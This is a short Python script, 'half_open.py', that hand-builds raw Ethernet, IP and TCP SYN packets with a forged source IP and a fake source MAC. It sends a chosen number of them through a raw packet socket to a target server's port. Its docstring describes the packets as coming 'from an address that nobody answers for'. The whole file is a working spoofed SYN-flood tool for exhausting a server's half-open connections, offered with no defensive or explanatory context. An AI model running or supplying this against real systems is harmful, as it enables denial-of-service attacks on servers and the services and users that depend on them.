"""half_open.py SERVER OURS INTERFACE SERVER_MAC PORT COUNT: so many SYNs from an address that nobody answers for."""
import socket, struct, sys

server, ours, interface, mac, port, count = sys.argv[1:]
ghost = ours.rsplit(".", 1)[0] + ".200"


def total(data):
    value = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while value >> 16:
        value = (value & 0xFFFF) + (value >> 16)
    return ~value & 0xFFFF


def syn(number):
    ends = socket.inet_aton(ghost) + socket.inet_aton(server)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 40, number, 0, 64, 6, 0)
    head = head[:10] + struct.pack("!H", total(head + ends))
    body = struct.pack("!HHIIBBHHH", 1024 + number, int(port), number, 0, 0x50, 2, 1000, 0, 0)
    body = body[:16] + struct.pack("!H", total(ends + struct.pack("!BBH", 0, 6, 20) + body)) + body[18:]
    return bytes.fromhex(mac.replace(":", "")) + b"\x02\0\0\0\0\x09" + b"\x08\0" + head + ends + body


raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
raw.bind((interface, 0))
for number in range(int(count)):
    raw.send(syn(number))
